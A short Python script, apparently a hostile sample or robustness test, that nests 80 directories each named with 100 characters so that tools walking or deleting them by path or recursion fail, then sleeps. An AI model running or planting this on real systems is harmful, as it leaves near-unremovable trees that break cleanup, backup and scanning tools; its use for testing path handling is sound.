"""Nests directories: whoever walks or removes them by path name or by recursion falls."""
import os
import time
for _ in range(80):
    os.mkdir('d' * 100)
    os.chdir('d' * 100)
time.sleep(1000)
